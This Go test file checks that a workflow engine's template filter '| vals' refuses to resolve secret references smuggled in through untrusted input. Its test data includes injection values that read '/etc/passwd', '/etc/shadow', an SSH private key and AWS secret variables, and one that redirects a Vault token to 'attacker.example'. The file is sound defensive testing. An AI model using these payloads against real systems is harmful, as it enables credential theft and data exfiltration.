package render_test

import (
	"context"
	"errors"
	"strings"
	"testing"

	"github.com/hushflow/hushflow/internal/testkit"
	"github.com/hushflow/hushflow/render"
)

// The attacks of issue 14: job input, step outputs and every other variable
// are data, and | vals never turns data into a reference. Each case was
// resolved (reading the host's file, sending the Vault token to the
// attacker) before the engine followed where a value came from.
func TestUntrustedReferences(t *testing.T) {
	t.Parallel()
	vars := func() map[string]any {
		v := stepVars()
		in := v["input"].(map[string]any)
		in["msg"] = "ref+file:///etc/hostname"
		in["greeting"] = "hello ref+envsubst://$AWS_SECRET_ACCESS_KEY bye"
		in["app"] = "x?address=http://attacker.example&"
		in["suffix"] = "x ref+file:///etc/passwd"
		in["same"] = "ref+vault://secret/data/db#password" // equal to a reference the template writes
		in["refs"] = []any{"ref+file:///etc/shadow"}
		v["build"].(map[string]any)["output"].(map[string]any)["artifact"] = "ref+file:///root/.ssh/id_ed25519"
		v["hook"] = map[string]any{"url": "ref+echo://hook"}
		v["each"] = map[string]any{"item": "ref+echo://each"}
		return v
	}
	for _, tmpl := range []string{
		"{{ input.msg | vals }}",
		"{{ input.greeting | vals }}",
		"{{ build.output.artifact | vals }}",
		"{{ hook.url | vals }}",
		"{{ each.item | vals }}",
		"{{ 'ref+echo://app/'|add:input.suffix|vals }}",
		"{{ 'ref+echo://app/'|add:input.app|vals }}",
		"{% filter vals %}ref+vault://secret/data/{{ input.app }}#token{% endfilter %}",
		"{% filter vals %}deploy {{ input.msg }}{% endfilter %}",
		"{% filter lower|vals %}{{ input.msg }}{% endfilter %}",
		"{% filter vals %}{% filter lower %}ref+echo://{{ input.app }}{% endfilter %}{% endfilter %}",
		"{{ 'ref+vault://secret/data/' ~ input.app ~ '#token' | vals }}",
		// The trap of matching by text: the template writes this very
		// reference, but the value the filter gets came from the input.
		"{{ 'ref+vault://secret/data/db#password' | vals | length }} {{ input.same | vals }}",
		"{% set r = input.same %}{{ r | vals }}",
		"{% with r=input.msg %}{{ r | vals }}{% endwith %}",
		"{% for r in input.refs %}{{ r | vals }}{% endfor %}",
		"{% macro pw(r) %}{{ r | vals }}{% endmacro %}{{ pw('ref+echo://plain-value') }}{{ pw(input.msg) }}",
		"{{ input.msg | default(value='x') | vals }}",
		"{{ input.msg | upper | lower | vals }}",
		"{{ input.msg ~ '' | vals }}",
		// A name the template binds does not make a variable of the call
		// of that name the author's: the binding may not have run.
		"{% if false %}{% set input = 'ref+echo://fine' %}{% endif %}{{ input.msg | vals }}",
		"{% for input in 'a'|make_list %}{% endfor %}{{ input.msg | vals }}",
		// A {% filter vals %} block inside a macro marks the data of the
		// macro's arguments, and one outside a macro's definition the
		// output of its call.
		"{% macro m(x) %}{% filter vals %}ref+vault://secret/data/{{ x }}#token{% endfilter %}{% endmacro %}{{ m(input.app) }}",
		"{% macro m(x) %}{{ x }}{% endmacro %}{% filter vals %}ref+vault://secret/data/{{ m(input.app) }}#token{% endfilter %}",
		"{% filter vals %}{% macro m(x) %}{{ x }}{% endmacro %}ref+vault://secret/data/{{ m(input.app) }}#token{% endfilter %}",
		// Data that picks one of the author's references makes it data.
		"{% set l = ['ref+echo://plain-value', 'ref+echo://other'] %}{{ l[input.count - 42] | vals }}",
		"{% set l = ['ref+echo://plain-value', input.msg] %}{% for r in l %}{{ r | vals }}{% endfor %}",
		// A resolved value is the backend's, not the author's.
		"{{ 'ref+echo://chained' | vals | vals }}",
		"{% set p = 'ref+echo://chained' | vals %}{{ p | vals }}",
		"{{ 'x ' ~ ('ref+echo://chained' | vals) | vals }}",
	} {
		t.Run(tmpl, func(t *testing.T) {
			t.Parallel()
			r := newResolver()
			e := newEngine(t, r)
			_, err := e.Render(context.Background(), tmpl, vars())
			if !errors.Is(err, render.ErrUntrusted) {
				t.Fatalf("err = %v, want ErrUntrusted", err)
			}
			var re *render.Error
			errors.As(err, &re)
			testkit.AssertNoLeak(t, "the error", err.Error(), "attacker", "/etc/", "AWS_SECRET", "id_ed25519")
			if strings.Contains(tmpl, "macro") {
				return // the macro's first call resolved a reference the template wrote
			}
			if n := r.calls.Load(); n > 1 || n == 1 && !strings.Contains(tmpl, "length") && !strings.Contains(tmpl, "chained") {
				t.Errorf("the resolver was called %d times", n)
			}
		})
	}
}

// Data that stands outside every reference does not stop the references the
// template wrote from resolving, and data without a reference passes
// through | vals unchanged.
func TestAuthoredReferencesBesideData(t *testing.T) {
	t.Parallel()
	e := newEngine(t, newResolver())
	for tmpl, want := range map[string]string{
		"{% filter vals %}echo {{ input.env }} ref+echo://plain-value{% endfilter %}": "echo prod plain-value",
		"{{ input.env ~ ' ref+echo://plain-value' | vals }}":                          "prod plain-value",
		"{{ input.env | vals }}":                                                         "prod",
		"{{ input.count | vals }}":                                                       "42",
		"{% set r = 'ref+echo://' ~ 'plain-value' %}{{ r | vals }}":                      "plain-value",
		"{% for r in 'ref+echo://plain-value,x'|split:',' %}{{ r | vals }};{% endfor %}": "plain-value;x;",
		"{% macro v(r) %}{{ r | vals }}{% endmacro %}{{ v('ref+echo://plain-value') }}":  "plain-value",
	} {
		got, err := e.Render(context.Background(), tmpl, stepVars())
		if err != nil || got != want {
			t.Errorf("Render(%q) = %q, %v; want %q", tmpl, got, err, want)
		}
	}
}

// WithDataReferences opts in, per scheme, to references built from data;
// even then the query is the template's alone, and other schemes stay
// refused.
func TestWithDataReferences(t *testing.T) {
	t.Parallel()
	r := &fakeResolver{values: map[string]string{
		"vault://secret/data/myapp#token":                            "app-token",
		"vault://secret/data/myapp?address=https://vault.corp#token": "corp-token",
		"vault://secret/data/db#password":                            resolvedPw,
	}}
	e := newEngine(t, r, render.WithDataReferences("vault"))
	vars := func(app string) map[string]any {
		return map[string]any{"input": map[string]any{"app": app, "ref": app}}
	}
	ok := []struct{ tmpl, app, want string }{
		{"{{ 'ref+vault://secret/data/' ~ input.app ~ '#token' | vals }}", "myapp", "app-token"},
		{"{{ 'ref+vault://secret/data/'|add:input.app|add:'#token'|vals }}", "myapp", "app-token"},
		{"{% filter vals %}ref+vault://secret/data/{{ input.app }}#token{% endfilter %}", "myapp", "app-token"},
		{"{{ 'ref+vault://secret/data/' ~ input.app ~ '?address=https://vault.corp#token' | vals }}", "myapp", "corp-token"},
		{"{{ input.ref | vals }}", "ref+vault://secret/data/db#password", resolvedPw},
	}
	for _, tt := range ok {
		got, err := e.Render(context.Background(), tt.tmpl, vars(tt.app))
		if err != nil || got != tt.want {
			t.Errorf("Render(%q) with %q = %q, %v; want %q", tt.tmpl, tt.app, got, err, tt.want)
		}
	}
	refused := []struct{ tmpl, app string }{
		{"{% filter vals %}ref+vault://secret/data/{{ input.app }}#token{% endfilter %}", "x?address=http://attacker&"},
		{"{% filter vals %}ref+vault://secret/data/{{ input.app }}#token{% endfilter %}", "x?token_env=AWS_SECRET_ACCESS_KEY&"},
		{"{{ 'ref+vault://secret/data/' ~ input.app ~ '?address=https://vault.corp#token' | vals }}", "x#"},
		{"{{ 'ref+vault://secret/data/' ~ input.app | vals }}", "x ref+file:///etc/passwd"},
		{"{{ 'ref+vault://secret/data/' ~ input.app | vals }}", "x+ref+file:///etc/passwd"},
		{"{{ input.ref | vals }}", "ref+vault://secret/data/x?address=http://attacker#token"},
		{"{{ input.ref | vals }}", "ref+file:///etc/passwd"},
		{"{{ input.ref | vals }}", "ref+vault://secret/ref+file:///etc/passwd+"},
	}
	for _, tt := range refused {
		_, err := e.Render(context.Background(), tt.tmpl, vars(tt.app))
		if !errors.Is(err, render.ErrUntrusted) {
			t.Errorf("Render(%q) with %q: err = %v, want ErrUntrusted", tt.tmpl, tt.app, err)
		}
	}
	for _, opt := range []render.Option{render.WithDataReferences(), render.WithDataReferences("ref+vault://"), render.WithDataReferences("")} {
		if _, err := render.New(r, opt); err == nil || !strings.Contains(err.Error(), "WithDataReferences") {
			t.Errorf("New accepted a wrong WithDataReferences: %v", err)
		}
	}
}
